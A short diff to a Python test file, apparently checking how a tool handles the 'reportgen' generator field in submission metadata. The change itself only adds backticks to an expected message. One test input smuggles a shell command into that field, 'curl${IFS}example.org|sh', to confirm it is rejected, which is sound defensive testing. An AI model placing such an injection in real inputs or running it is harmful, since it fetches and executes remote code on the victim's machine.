@@ -238,7 +238,7 @@ def test_another_release_and_other_libraries_are_no_fault_of_the_file(known, sen
         known, sender, tmp_path / "c.pdf", listed=by(generator="reportgen 0.2.0;curl${IFS}example.org|sh")
     )
     (said_of,) = step(command, known).details
-    assert said_of == "submittal.json does not name a release of reportgen as what made it"
+    assert said_of == "submittal.json does not name a release of `reportgen` as what made it"
     later = written(known, sender, tmp_path / "later.pdf", listed=by(generator="reportgen 99.0"))
     assert step(later, known).status == "not done"
     assert "pip install reportgen==99.0" in step(later, known).details[0]
